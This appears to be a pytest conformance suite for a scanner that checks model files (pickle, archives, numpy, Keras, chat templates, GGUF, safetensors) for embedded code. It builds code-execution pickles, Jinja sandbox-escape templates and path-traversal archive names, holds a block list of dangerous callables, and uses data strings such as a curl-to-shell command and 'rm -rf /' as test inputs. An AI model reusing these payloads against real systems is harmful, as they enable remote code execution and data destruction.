"""Conformance with the attack and false-positive cases of promptfoo/modelaudit's test suite.

Each case is rebuilt here from what modelaudit's tests send (tests/scanners/test_pickle_scanner.py,
test_zip_scanner.py, test_keras_zip_scanner.py, test_cve_2025_10155_bin_pickle.py, the
detectors/ tests of runpy, importlib, webbrowser, builtins and network modules, and the false
positive tests), with our own code and harmless payloads (``os.system("true")``). Nothing here
loads what it builds. Hostile files must never scan clean; benign files must have no finding.
"""
from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import zlib

import pytest

from tests.archives import tar_bytes, zip_bytes
from tests import pickle_ops as ops
from tests.conftest import rule_ids

PROTO0_SYSTEM = b'cos\nsystem\n(S"true"\ntR.'


def _reduce(module: str, name: str, proto: int = 2) -> bytes:
    """``module.name("true")`` through GLOBAL + REDUCE (protocol 0 text when ``proto`` is 0)."""
    if proto == 0:
        return ops.global_(module, name) + b"(" + ops.string("true") + b"tR."
    return ops.proto(proto) + ops.global_(module, name) + ops.unicode_("true") + ops.TUPLE1 + ops.REDUCE + ops.STOP


def _stack_global(module: str, name: str) -> bytes:
    return (ops.proto(4) + ops.unicode_(module) + ops.unicode_(name) + ops.STACK_GLOBAL + ops.unicode_("true")
            + ops.TUPLE1 + ops.REDUCE + ops.STOP)


_zip = zip_bytes


_tar = tar_bytes


def assert_not_clean(report) -> None:
    assert report.verdict != "clean" and report.exit_code != 0, [str(f) for f in report.findings]


def assert_fails(report) -> None:
    """A hostile file the scanner proves hostile (exit 1), not only unjudged."""
    assert report.exit_code == 1, [str(f) for f in report.findings]


def assert_clean(report) -> None:
    assert report.exit_code == 0 and not report.findings, [str(f) for f in report.findings]


# -- dangerous imports: modelaudit's SUSPICIOUS_GLOBALS, the CVE and detector tests ------------------
DANGEROUS_CALLABLES = [
    ("os", "system"), ("os", "popen"), ("os", "spawnl"), ("os", "execv"), ("posix", "system"), ("nt", "system"),
    ("posix", "popen"), ("nt", "popen"), ("subprocess", "call"), ("subprocess", "run"), ("subprocess", "Popen"),
    ("subprocess", "check_output"), ("commands", "getoutput"), ("commands", "getstatusoutput"),
    ("runpy", "run_module"), ("runpy", "run_path"), ("runpy", "_run_module_as_main"), ("runpy", "_run_code"),
    ("webbrowser", "open"), ("webbrowser", "open_new"), ("webbrowser", "open_new_tab"),
    ("importlib", "import_module"), ("importlib", "reload"), ("importlib.machinery", "SourceFileLoader"),
    ("importlib.util", "spec_from_file_location"), ("importlib._bootstrap", "_load"),
    ("builtins", "eval"), ("builtins", "exec"), ("builtins", "compile"), ("builtins", "open"),
    ("builtins", "__import__"), ("builtins", "globals"), ("builtins", "locals"), ("builtins", "setattr"),
    ("builtins", "getattr"), ("builtins", "delattr"), ("builtins", "vars"), ("builtins", "dir"),
    ("builtins", "input"), ("__builtin__", "eval"), ("__builtin__", "execfile"), ("__builtin__", "reload"),
    ("__builtins__", "exec"), ("operator", "attrgetter"), ("operator", "methodcaller"), ("_operator", "attrgetter"),
    ("pickle", "loads"), ("_pickle", "loads"), ("base64", "b64decode"), ("codecs", "decode"),
    ("shutil", "rmtree"), ("shutil", "copy"), ("shutil", "move"), ("tempfile", "mktemp"), ("pty", "spawn"),
    ("platform", "popen"), ("ctypes", "CDLL"), ("ctypes.util", "find_library"), ("_ctypes", "dlopen"),
    ("socket", "create_connection"), ("socket", "socket"), ("mmap", "mmap"), ("multiprocessing", "Process"),
    ("multiprocessing.pool", "Pool"), ("concurrent.futures", "ProcessPoolExecutor"), ("signal", "signal"),
    ("asyncio.subprocess", "create_subprocess_shell"), ("asyncio", "create_subprocess_exec"),
    ("dill", "loads"), ("dill._dill", "_create_function"), ("pkgutil", "resolve_name"),
    ("pkgutil", "get_importer"), ("zipimport", "zipimporter"), ("uuid", "_get_command_stdout"), ("uuid", "_popen"),
    ("smtplib", "SMTP"), ("xmlrpc.client", "ServerProxy"), ("poplib", "POP3"), ("imaplib", "IMAP4"),
    ("nntplib", "NNTP"), ("ssl", "wrap_socket"), ("socketserver", "TCPServer"), ("requests", "get"),
    ("aiohttp", "request"), ("urllib.request", "urlopen"), ("http.client", "HTTPConnection"),
    ("ftplib", "FTP"), ("telnetlib", "Telnet"), ("codeop", "compile_command"), ("marshal", "loads"),
    ("compileall", "compile_file"), ("py_compile", "compile"), ("cProfile", "run"), ("profile", "run"),
    ("pdb", "run"), ("bdb", "Bdb"), ("timeit", "timeit"), ("timeit", "repeat"), ("trace", "Trace"),
    ("code", "InteractiveInterpreter"), ("code", "interact"), ("functools", "reduce"), ("functools", "partial"),
    ("cloudpickle", "loads"), ("joblib", "load"), ("filecmp", "cmp"), ("distutils.spawn", "spawn"),
    ("pydoc", "pipepager"), ("pydoc", "locate"), ("pexpect", "spawn"), ("fileinput", "input"), ("glob", "glob"),
    ("venv", "create"), ("ensurepip", "bootstrap"), ("pip", "main"), ("pip._internal", "main"),
    ("pip._internal.cli.main", "main"), ("_signal", "signal"), ("threading", "Thread"),
    ("_thread", "start_new_thread"), ("sqlite3", "connect"), ("_sqlite3", "connect"), ("select", "select"),
    ("selectors", "DefaultSelector"), ("logging.config", "listen"), ("syslog", "syslog"), ("tarfile", "open"),
    ("zipfile", "ZipFile"), ("shelve", "open"), ("doctest", "debug_script"), ("idlelib.pyshell", "main"),
    ("lib2to3.main", "main"), ("types", "CodeType"), ("types", "FunctionType"), ("sys", "exit"),
    ("linecache", "getlines"), ("io", "open"), ("_io", "FileIO"), ("numpy.testing._private.utils", "runstring"),
    ("torch.hub", "load"), ("torch", "load"), ("torch.jit", "load"), ("torch.storage", "_load_from_bytes"),
    ("numpy", "load"), ("pandas", "read_pickle"), ("_posixsubprocess", "fork_exec"), ("os", "_wrap_close"),
    ("posixpath", "expanduser"), ("ntpath", "expanduser"), ("site", "addsitedir"), ("gc", "get_objects"),
    ("inspect", "getmembers"), ("yaml", "unsafe_load"), ("setuptools.sandbox", "run_setup"),
]


@pytest.mark.parametrize("module,name", DANGEROUS_CALLABLES, ids=lambda v: v)
def test_dangerous_callable_fails_in_every_import_opcode(scan_bytes, module, name):
    """GLOBAL (protocols 0 and 2) and STACK_GLOBAL (protocol 4) of each of modelaudit's names."""
    for data in (_reduce(module, name, 0), _reduce(module, name, 2), _stack_global(module, name)):
        assert_fails(scan_bytes(data, "model.pkl"))


def test_inst_obj_newobj_and_newobj_ex_with_a_dangerous_class_fail(scan_bytes):
    """INST, OBJ, NEWOBJ and NEWOBJ_EX call their class: ``os._wrap_close`` in modelaudit's test."""
    cases = [
        b"(" + ops.string("true") + ops.inst("os", "system") + b".",
        ops.proto(1) + b"(" + ops.global_("os", "system") + ops.string("true") + b"o.",
        ops.proto(2) + ops.global_("subprocess", "Popen") + ops.unicode_("true") + ops.TUPLE1 + ops.NEWOBJ + b".",
        ops.proto(4) + ops.global_("os", "_wrap_close") + b")}\x92.",
        ops.proto(4) + ops.unicode_("os") + ops.unicode_("_wrap_close") + ops.STACK_GLOBAL + b")}\x92.",
    ]
    for data in cases:
        assert "PK-I01" in rule_ids(scan_bytes(data, "model.pkl"))


# -- opcode tricks from test_pickle_scanner.py -----------------------------------------------------------
def test_memoized_callable_reduced_far_from_its_import_fails(scan_bytes):
    """GLOBAL posix.system, BINPUT, POP, a dozen pushed-and-popped strings, BINGET, REDUCE."""
    data = ops.proto(2) + ops.global_("posix", "system") + ops.binput(1) + ops.POP
    data += b"".join(ops.binunicode(f"f{i}") + ops.POP for i in range(12))
    data += ops.binget(1) + ops.binunicode("true") + ops.TUPLE1 + ops.REDUCE + ops.STOP
    assert "PK-I01" in rule_ids(scan_bytes(data, "model.pkl"))


def test_stack_global_follows_the_stack_not_popped_decoys(scan_bytes):
    """Decoy names (``torch._utils``/``_rebuild_tensor_v2``) are pushed and popped just before STACK_GLOBAL."""
    data = ops.proto(4) + ops.unicode_("os") + ops.unicode_("system")
    data += b"".join(ops.unicode_(f"junk{i}") + ops.POP for i in range(6))
    data += ops.unicode_("torch._utils") + ops.POP + ops.unicode_("_rebuild_tensor_v2") + ops.POP
    data += ops.STACK_GLOBAL + ops.unicode_("true") + ops.TUPLE1 + ops.REDUCE + ops.STOP
    report = scan_bytes(data, "model.pkl")
    assert "PK-I01" in rule_ids(report)
    assert any("os.system" in f.message for f in report.findings)


def test_stack_global_names_from_the_memo_fail(scan_bytes):
    """The module and name are memoized long before, read back with BINGET/LONG_BINGET and MEMOIZE."""
    data = (ops.proto(4) + ops.unicode_("subprocess") + ops.MEMOIZE + ops.POP + ops.unicode_("check_output")
            + ops.long_binput(70000) + ops.POP + ops.EMPTY_DICT + ops.POP
            + ops.binget(0) + ops.long_binget(70000) + ops.STACK_GLOBAL
            + ops.unicode_("true") + ops.TUPLE1 + ops.REDUCE + ops.STOP)
    report = scan_bytes(data, "model.pkl")
    assert any("subprocess.check_output" in f.message for f in report.findings)
    assert_fails(report)


def test_dangerous_name_through_a_benign_module_attribute_path_fails(scan_bytes):
    """Protocol 4 names may be dotted: ``builtins`` + ``__import__``; ``torch`` + ``load``; a benign module
    reaching a dangerous one as an attribute (``collections`` + ``os.system`` never exists, but
    ``torch._utils`` + ``pickle.loads`` or ``pathlib`` + ``os.system`` do resolve)."""
    for module, name in [("pathlib", "os.system"), ("torch._utils", "pickle.loads"), ("copyreg", "sys.modules"),
                         ("collections", "_sys.modules"), ("numpy", "testing._private.utils.runstring")]:
        assert_fails(scan_bytes(_stack_global(module, name), "model.pkl"))


def test_ext_codes_with_or_without_a_registered_extension_are_not_clean(scan_bytes):
    """EXT1/EXT2/EXT4 + REDUCE: the extension registry of the loading process decides what is called."""
    for ext in (b"\x82\x01", b"\x82\xff", b"\x83" + struct.pack("<H", 300), b"\x84" + struct.pack("<I", 70000)):
        assert_fails(scan_bytes(ops.proto(2) + ext + b'(S"true"\ntR.', "model.pkl"))
        assert_not_clean(scan_bytes(ops.proto(2) + ext + b".", "model.pkl"))


def test_second_pickle_after_a_benign_one_is_judged(scan_bytes):
    """pickle.dump twice into one file: a loader calling pickle.load twice runs the second."""
    first = pickle.dumps({"safe": True}, protocol=2)
    report = scan_bytes(first + _reduce("os", "system"), "model.pkl")
    assert "PK-I01" in rule_ids(report)
    assert_fails(report)


def test_junk_byte_between_streams_is_not_clean(scan_bytes):
    assert_not_clean(scan_bytes(pickle.dumps({"safe": True}, protocol=2) + b"\x00" + _reduce("os", "system")))


def test_malformed_first_stream_then_payload_is_not_clean(scan_bytes):
    """``c\\xff\\n`` (a GLOBAL that is not UTF-8) breaks the first stream; a payload stream follows."""
    assert_not_clean(scan_bytes(b"\x80\x02cbuiltins\nlen\nq\x00c\xff\n" + _reduce("os", "system")))


def test_malformed_tail_does_not_hide_an_import_reached_before_it(scan_bytes):
    report = scan_bytes(b"\x80\x02cbuiltins\n__import__\nq\x00c\xff\n", "model.pkl")
    assert "PK-I01" in rule_ids(report)
    assert_fails(report)


def test_loader_trampolines_fail(scan_bytes):
    """joblib.load(path), pip.main([...]) and friends: loaders and installers as callables."""
    assert_fails(scan_bytes(b"\x80\x04cjoblib\nload\n\x8c\x0bpayload.pkl\x85R.", "model.pkl"))
    pip = ops.proto(2) + ops.global_("pip", "main") + b"]" + ops.unicode_("install") + ops.APPEND + ops.TUPLE1
    assert_fails(scan_bytes(pip + ops.REDUCE + ops.STOP, "model.pkl"))


# -- nested and encoded pickles (test_nested_pickle_integration.py) ------------------------------------
def test_pickle_bytes_handed_to_a_loader_are_scanned(scan_bytes):
    inner = _reduce("os", "system")
    for module, name in [("pickle", "loads"), ("_pickle", "loads"), ("dill", "loads"), ("cloudpickle", "loads"),
                         ("torch.storage", "_load_from_bytes"), ("numpy", "loads")]:
        data = ops.proto(2) + ops.global_(module, name) + ops.binbytes(inner) + ops.TUPLE1 + ops.REDUCE + ops.STOP
        report = scan_bytes(data, "model.pkl")
        assert_fails(report)
        assert any("os.system" in f.message for f in report.findings), [str(f) for f in report.findings]


def test_encoded_pickle_decoded_then_loaded_fails(scan_bytes):
    """pickle.loads(base64.b64decode(...)) and codecs/zlib decoders in front of a loader."""
    import base64

    b64 = base64.b64encode(_reduce("os", "system")).decode()
    for dec_module, dec_name in [("base64", "b64decode"), ("codecs", "decode"), ("zlib", "decompress"),
                                 ("binascii", "a2b_base64"), ("bz2", "decompress")]:
        data = (ops.proto(2) + ops.global_("pickle", "loads") + ops.global_(dec_module, dec_name)
                + ops.unicode_(b64) + ops.TUPLE1 + ops.REDUCE + ops.TUPLE1 + ops.REDUCE + ops.STOP)
        assert_fails(scan_bytes(data, "model.pkl"))


# -- protocol 0/1 pickles where other data is expected (CVE-2025-10155, zip entries) -----------------
@pytest.mark.parametrize("name", ["pytorch_model.bin", "model.bin", "weights.pt", "payload.txt", "notes"])
def test_protocol_0_and_1_pickles_under_any_name_fail(scan_bytes, name):
    for data in (PROTO0_SYSTEM, b"cposix\nsystem\n(S'true'\ntR.", b"cnt\nsystem\n(S'true'\ntR.",
                 b"(lp0\n0cos\nsystem\n(S\"true\"\ntR.", b"(cposix\nsystem\nS'true'\no.",
                 b"cposix\nsystem\nq\x00(X\x04\x00\x00\x00trueq\x01tq\x02Rq\x03."):
        assert_fails(scan_bytes(data, name))


@pytest.mark.parametrize("member", ["payload.txt", "README.md", "archive/data/0", "archive/version",
                                    ".hidden", "dir/", "a b.pkl ", "UPPER.PKL", "data.pkl/../x", "..\\evil.pkl"])
def test_pickle_in_a_zip_member_of_any_name_fails(scan_bytes, member):
    report = scan_bytes(_zip({"archive/data.pkl": ops.proto(2) + b"}.", member: PROTO0_SYSTEM}), "model.zip")
    assert "PK-I01" in rule_ids(report)


def test_comment_token_in_front_of_a_protocol_0_pickle_is_inert_text(scan_bytes):
    """``#`` then a protocol-0 pickle (modelaudit flags it by its words): ``#`` is no opcode, so
    ``pickle.load`` fails at the first byte having imported nothing; the member is text."""
    assert_clean(scan_bytes(_zip({"payload.txt": b"#" + PROTO0_SYSTEM}), "model.zip"))


def test_pickles_in_nested_and_compressed_containers_fail(scan_bytes):
    payload = _reduce("os", "system")
    containers = {
        "nested.zip": _zip({"inner.zip": _zip({"data.pkl": payload})}),
        "model.tar": _tar({"model/data.pkl": payload}),
        "model.tar.gz": _tar({"model/data.pkl": payload}, "w:gz"),
        "model.tar.bz2": _tar({"model/data.pkl": payload}, "w:bz2"),
        "model.tar.xz": _tar({"model/data.pkl": payload}, "w:xz"),
        "nested.tar": _tar({"inner.tar.gz": _tar({"x.bin": payload}, "w:gz")}),
        "model.pkl.gz": gzip.compress(payload),
        "model.pkl.bz2": bz2.compress(payload),
        "model.pkl.xz": lzma.compress(payload),
        "model.pkl.lzma": lzma.compress(payload, format=lzma.FORMAT_ALONE),
        "model.joblib": zlib.compress(payload),
        "model.zip": _zip({"model.pkl.gz": gzip.compress(payload)}),
    }
    for name, data in containers.items():
        report = scan_bytes(data, name)
        assert "PK-I01" in rule_ids(report), (name, [str(f) for f in report.findings])


def test_archive_path_traversal_and_unopened_archives_are_not_clean(scan_bytes):
    for name in ("../evil.pkl", "..\\..\\evil.pkl", "/etc/evil.pkl"):
        assert_not_clean(scan_bytes(_tar({name: b"hello\n"}), "model.tar"))
    assert_not_clean(scan_bytes(b"7z\xbc\xaf\x27\x1c" + bytes(32), "model.7z"))


# -- numpy (test_numpy_scanner.py, test_security_enhancements.py) -----------------------------------
def _npy(descr: str, shape: tuple[int, ...], body: bytes) -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    header += b" " * ((64 - (10 + len(header) + 1) % 64) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def test_numpy_object_arrays_and_object_fields_are_not_clean(scan_bytes):
    for descr in ("|O", "<O", [("a", "<f4"), ("b", "|O")]):
        report = scan_bytes(_npy(descr, (1,), _reduce("os", "system")), "data.npy")
        assert_fails(report)
    npz = _zip({"arr_0.npy": _npy("|O", (1,), _reduce("os", "system"))})
    assert_fails(scan_bytes(npz, "data.npz"))


def test_numpy_negative_or_overflowing_shapes_are_not_clean(scan_bytes):
    for shape in ((-1,), (2**62, 2**62), (1,) * 80):
        assert_not_clean(scan_bytes(_npy("<f4", shape, b"\0" * 4), "data.npy"))
    assert_not_clean(scan_bytes(_npy("<f4", (10,), b"\0" * 4), "data.npy"))  # truncated


def test_numeric_numpy_files_are_clean(scan_bytes):
    import numpy as np

    for arr in (np.arange(12, dtype=np.float32).reshape(3, 4), np.zeros((2,), dtype=[("a", "<f4"), ("b", "<i8")]),
                np.array([b"ab", b"c"]), np.array(["x", "yz"]), np.zeros((0,), dtype=np.void)):
        buf = io.BytesIO()
        np.save(buf, arr)
        assert_clean(scan_bytes(buf.getvalue(), "a.npy"))
    buf = io.BytesIO()
    np.savez_compressed(buf, a=np.ones(3), b=np.arange(4))
    assert_clean(scan_bytes(buf.getvalue(), "a.npz"))


# -- false positives: benign files a real tool writes ---------------------------------------------------
@pytest.mark.parametrize("protocol", range(6))
def test_plain_data_pickles_of_every_protocol_are_clean(scan_bytes, protocol):
    """Strings that name dangerous calls are data, not imports (modelaudit's comment-token cases)."""
    data = {"model_name": "bert", "layers": [1, 2.5, None, True], "t": (1, "a"), "b": b"\x00\xff" * 40,
            "note": "os.system('rm -rf /') eval( exec( __import__ subprocess.Popen runpy webbrowser.open",
            "url": "http://198.51.100.7:4444/payload.sh", "s": {1, 2}, "fs": frozenset({3}), "big": 2**70,
            "nested_pickle_bytes": _reduce("os", "system"), "encoded": "Y29zCnN5c3RlbQooUyd0cnVlJwp0Ui4="}
    assert_clean(scan_bytes(pickle.dumps(data, protocol=protocol), "safe_data.pkl"))


def test_numpy_and_ordered_dict_pickles_are_clean(scan_bytes):
    import collections

    import numpy as np

    for protocol in (2, 4, 5):
        data = collections.OrderedDict(w=np.arange(6, dtype=np.float32).reshape(2, 3), s=np.float64(1.5))
        assert_clean(scan_bytes(pickle.dumps(data, protocol=protocol), "weights.pkl"))


def test_torch_checkpoints_are_clean(scan_bytes, tmp_path):
    torch = pytest.importorskip("torch")
    state = {"layer.weight": torch.randn(3, 3), "layer.bias": torch.zeros(3), "step": 10,
             "p": torch.nn.Parameter(torch.ones(2)), "h": torch.ones(2, dtype=torch.float16)}
    for zipped in (True, False):
        buf = io.BytesIO()
        torch.save(state, buf, _use_new_zipfile_serialization=zipped)
        for name in ("pytorch_model.bin", "model.pt", "model.ckpt"):
            assert_clean(scan_bytes(buf.getvalue(), name))


def test_joblib_numpy_dumps_are_clean(scan_bytes, tmp_path):
    joblib = pytest.importorskip("joblib")
    import numpy as np

    for compress in (0, 3, ("lzma", 3), ("gzip", 3), ("bz2", 3)):
        path = tmp_path / f"arrays-{str(compress)[:8]}.joblib"
        joblib.dump({"w": np.arange(100.0), "b": np.ones((2, 2), dtype=np.int32)}, path, compress=compress)
        assert_clean(scan_bytes(path.read_bytes(), "model.joblib"))


def test_zip_and_tar_of_benign_files_are_clean(scan_bytes):
    members = {"config.json": json.dumps({"hidden_size": 8}), "README.md": "# model\n",
               "data.pkl": pickle.dumps({"a": [1, 2]}, protocol=4), "notes.txt": b"c\nthis is plain text\nnot a pickle"}
    assert_clean(scan_bytes(_zip(members), "safe_model.zip"))
    assert_clean(scan_bytes(_tar({k: v.encode() if isinstance(v, str) else v for k, v in members.items()}, "w:gz"),
                            "safe_model.tar.gz"))


# -- text and config files whose first line reads as GLOBAL/INST (found here: they once failed) ------
TEXT_FILES = {
    "model_config.yaml": b"chat_template:\n  '{% for message in messages %}{{ message['content'] }}{% endfor %}'\n"
                         b"model_name: test-model\nparameters:\n  max_length: 1024\n",
    "train.yaml": b"checkpoint:\n  path: model.ckpt\nlr: 0.1\n",
    "callbacks.yaml": b"callbacks:\n- name: early_stopping\n",
    "data.csv": b"id,text,label\n1,hello,0\n2,bye,1\n",
    "features.csv": b"col1,col2,col3\n0.1,0.2,0.3\n",
    "requirements.txt": b"certifi==2024.2.2\ncharset-normalizer==3.3.2\nidna==3.6\n",
    "notes.txt": b"c\nthis is plain text\nnot a pickle stream",
    "setup.py": b"import os\nimport sys\nprint(sys.argv)\n",
}


@pytest.mark.parametrize("name", TEXT_FILES)
def test_config_and_text_files_are_not_taken_for_pickles(scan_bytes, name):
    """A YAML key, a CSV header or a requirement line is no module name: ``pickle.load`` of these
    stops at an import no Python module can answer to, before anything else."""
    assert_clean(scan_bytes(TEXT_FILES[name], name))
    assert_clean(scan_bytes(_zip({name: TEXT_FILES[name]}), "bundle.zip"))


def test_text_shaped_pickles_with_real_module_names_still_fail(scan_bytes):
    """The same shapes with a module that exists: judged as pickles."""
    for data in (b"cos\nsystem\n", b"cos\nsystem\n(S'true'\ntR", b"ios\nsystem\n", b"cbuiltins\neval\nX:\n",
                 b"(S'true'\nios\nsystem\n", b"c_pickle\nloads\n, x, y\n",
                 b"c_sysconfigdata__linux_x86_64-linux-gnu\n__loader__\n(S'x'\ntR", b"c1st_module\nrun\n)R"):
        assert_not_clean(scan_bytes(data, "config.yaml"))


# -- Keras v3 configs (test_keras_zip_scanner.py) ---------------------------------------------------------
def _keras(*layers: dict, version: str = "3.5.0") -> bytes:
    config = {"module": "keras", "class_name": "Sequential", "registered_name": None,
              "config": {"name": "sequential", "layers": list(layers)}}
    return _zip({"config.json": json.dumps(config), "metadata.json": json.dumps({"keras_version": version})})


def _obj(module_name, class_name: str, **config) -> dict:
    return {"module": module_name, "class_name": class_name, "config": config, "registered_name": None}


KERAS_HOSTILE = {
    "lambda": _obj("keras.layers", "Lambda", function="f", name="l"),
    "lambda_fn_module": {"class_name": "Lambda", "config": {"fn_module": "mathutils.payload"}},
    "os_module": {"class_name": "Dense", "name": "d", "module": "os", "config": {"units": 10}},
    "builtins_module": {"class_name": "Dense", "module": "builtins", "config": {"units": 1}},
    "custom_package": {"class_name": "Dense", "module": "my_custom_package.layers", "config": {"units": 10}},
    # found here: these four scanned clean (module inside Keras) before KERAS_GADGETS
    "torch_module_wrapper": _obj("keras.layers", "TorchModuleWrapper", module="gASVAAAAAAAAAAB9lC4=", name="t"),
    "tfsm_layer": _obj("keras.layers", "TFSMLayer", filepath="/tmp/saved_model", name="t"),
    "get_file": _obj("keras.utils", "get_file", origin="https://example.invalid/x.tar.gz", extract=True),
    "enable_unsafe_deserialization": _obj("keras.config", "enable_unsafe_deserialization"),
}


@pytest.mark.parametrize("name", KERAS_HOSTILE)
def test_keras_configs_that_run_code_fail(scan_bytes, name):
    layers = (_obj("keras.layers", "Dense", units=10, name="d"), KERAS_HOSTILE[name])
    assert_fails(scan_bytes(_keras(*layers), "model.keras"))


def test_keras_gadget_is_found_by_registered_name_and_when_nested(scan_bytes):
    nested = _obj("keras.layers", "Dense", units=1, kernel_initializer=_obj("keras.utils", "get_file"))
    assert "KERAS-01" in rule_ids(scan_bytes(_keras(nested), "model.keras"))
    wrapped = {"module": "keras.layers", "class_name": "Wrapper", "registered_name": "keras>TorchModuleWrapper",
               "config": {}}
    assert "KERAS-01" in rule_ids(scan_bytes(_keras(wrapped), "model.keras"))


def test_plain_keras_models_are_clean(scan_bytes):
    """Sequential/Functional/Model of built-in layers, any Keras version, a config mentioning a URL."""
    for version in ("3.0.0", "3.11.3", "3.12"):
        layers = (_obj("keras.layers", "InputLayer", batch_shape=[None, 4], name="in"),
                  _obj("keras.layers", "Dense", units=10, name="d", activation="relu"),
                  _obj("keras.layers", "Dropout", rate=0.1, name="drop"))
        assert_clean(scan_bytes(_keras(*layers, version=version), "model.keras"))
    meta = _obj("keras.layers", "Dense", units=1, name="get_file", description="see https://example.com/model-info")
    assert_clean(scan_bytes(_keras(meta), "model.keras"))


# -- chat templates in YAML configs (modelaudit's samples/jinja2/yaml) ----------------------------------
ESCAPE = "{{ config.__class__.__init__.__globals__['os'].system('true') }}"


def test_chat_template_in_a_yaml_config_is_judged(scan_bytes):
    """YAML text is not a pickle (above), so its templates are judged as templates: found here when
    modelaudit's malicious_config.yaml went clean with the text-file fix."""
    hostile = {
        "config.yaml": f"chat_template:\n  \"{ESCAPE}\"\nmodel_name: evil-model\n",
        "axolotl.yml": "base_model: x\nchat_template: jinja\nchat_template_jinja: |\n  " + ESCAPE + "\n",
        "datasets.yaml": f"datasets:\n  - path: x\n    chat_template: \"{ESCAPE}\"\n",
        "anchored.yaml": f"t: &t \"{ESCAPE}\"\nchat_template: *t\n",
    }
    for name, text in hostile.items():
        assert "TPL-01" in rule_ids(scan_bytes(text.encode(), name)), name
    assert "TPL-01" in rule_ids(scan_bytes(_zip({"config.yaml": hostile["config.yaml"]}), "bundle.zip"))


def test_benign_and_unreadable_yaml_configs_are_clean(scan_bytes):
    benign = {
        "model_config.yaml": TEXT_FILES["model_config.yaml"],
        "ok.yml": b"chat_template_jinja: |\n  {% for m in messages %}{{ m.content }}{% endfor %}\n"
                  b"datasets:\n  - path: x\n    chat_template: chatml\n",
        "laughs.yaml": b"a: &a [x, x, x, x, x, x, x, x, x]\n" + b"".join(
            b"a%d: &a%d [%s]\n" % (i, i, b", ".join([b"*a" + (b"%d" % (i - 1) if i > 1 else b"")] * 9))
            for i in range(1, 25)) + b"chat_template: '{{ messages }}'\n",
        "deep.yaml": b"chat_template: " + b"[" * 100_000 + b"]" * 100_000 + b"\n",
    }
    for name, text in benign.items():
        assert_clean(scan_bytes(text, name))


def test_safetensors_metadata_that_mentions_code_is_data(scan_bytes):
    """modelaudit's samples/safetensors/*: metadata strings naming imports, shells and URLs. The
    safetensors loader never evaluates metadata, so the file holds no code."""
    metadata = {"format": "pt", "code": "import os; os.system('true')", "script": "<script>alert(1)</script>",
                "cmd": "curl http://198.51.100.7/x.sh | sh", "b64": "Y29zCnN5c3RlbQooUyd0cnVlJwp0Ui4="}
    header = json.dumps({"__metadata__": metadata,
                         "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    header += b" " * (-len(header) % 8)
    assert_clean(scan_bytes(struct.pack("<Q", len(header)) + header + bytes(8), "model.safetensors"))


# -- archive member names (test_zip_scanner.py: directory and Windows traversal) ---------------------------
@pytest.mark.parametrize("member", ["../evil.txt", "/etc/evil.txt", "..\\evil.txt", "a/../../evil.txt", "C:/evil.txt",
                                    "C:\\Windows\\evil.txt"])
def test_zip_member_that_escapes_the_folder_fails(scan_bytes, member):
    """Found here: a zip's unsafe member names were clean while the tar rule (ARC-04) caught them."""
    report = scan_bytes(_zip({"config.json": "{}", member: "hello\n"}), "model.zip")
    assert "ARC-04" in rule_ids(report)
    assert_fails(report)
    assert "ARC-04" in rule_ids(scan_bytes(_tar({member: b"hello\n"}), "model.tar"))


def test_zip_member_names_that_stay_inside_are_clean(scan_bytes):
    names = ["archive/data.pkl", "a..b/c", "dir/..hidden", "x/./y.txt", "...", "model..safetensors"]
    members = {n: pickle.dumps(1) if n.endswith(".pkl") else b"hi\n" for n in names}
    assert_clean(scan_bytes(_zip(members), "model.zip"))


# -- chat templates (modelaudit's samples/jinja2: malicious, obfuscated, benign) ---------------------------
SSTI_TEMPLATES = [
    "{{ __builtins__.__import__('base64').b64decode('dHJ1ZQ==').decode() }}",
    "{{ ().__class__.__bases__[0].__subclasses__()[59].__init__.__globals__[''.join([chr(95), chr(95)])] }}",
    "{{ '{}'.format(cycler.__init__.__globals__.os.system('true')) }}",
    "{{ getattr(getattr(getattr('', '__class__'), '__mro__')[1], '__subclasses__')()[40]('x').read() }}",
    "{{ ''|attr('__class__')|attr('__mro__')|attr('__getitem__')(1)|attr('__subclasses__')() }}",
    "{{ request['application']['\\x5f\\x5fglobals\\x5f\\x5f']['\\x5f\\x5fbuiltins\\x5f\\x5f']['eval']('1') }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').popen('true').read() }}{% endif %}{% endfor %}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('true').read() }}",
    "{% for m in messages %}{{ m.content }}{% endfor %}{# comment #}{{ cycler.__init__.__globals__.os.system('true') }}",
    "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('true').read() }}",
]
BENIGN_TEMPLATES = [
    "{% for message in messages %}\n  {% if message.class == \"important\" %}\n    IMPORTANT: {{ message.content }}\n"
    "  {% else %}\n    {{ message.content }}\n  {% endif %}\n{% endfor %}",
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>'}}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}",
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ messages[0]['content'] | trim }}{% endif %}"
    "{% for m in messages %}{{ '[INST] ' + m['content'] + ' [/INST]' if m['role'] == 'user' else m['content'] }}"
    "{% endfor %}",
    "",
]


@pytest.mark.parametrize("template", SSTI_TEMPLATES)
def test_escaping_chat_templates_fail_in_every_carrier(scan_bytes, template):
    assert "TPL-01" in rule_ids(scan_bytes(json.dumps({"chat_template": template}).encode(), "tokenizer_config.json"))
    assert "TPL-01" in rule_ids(scan_bytes(template.encode(), "chat_template.jinja"))
    gguf = (b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 23) + b"tokenizer.chat_template"
            + struct.pack("<IQ", 8, len(template.encode())) + template.encode())
    assert "GGUF-01" in rule_ids(scan_bytes(gguf, "model.gguf"))


@pytest.mark.parametrize("template", BENIGN_TEMPLATES)
def test_ordinary_chat_templates_are_clean(scan_bytes, template):
    assert_clean(scan_bytes(json.dumps({"chat_template": template}).encode(), "tokenizer_config.json"))
    assert_clean(scan_bytes(template.encode(), "template.j2"))


# -- safetensors headers (test_safetensors_scanner.py) -------------------------------------------------
def _safetensors(header: bytes, data: bytes = bytes(20)) -> bytes:
    return struct.pack("<Q", len(header)) + header + data


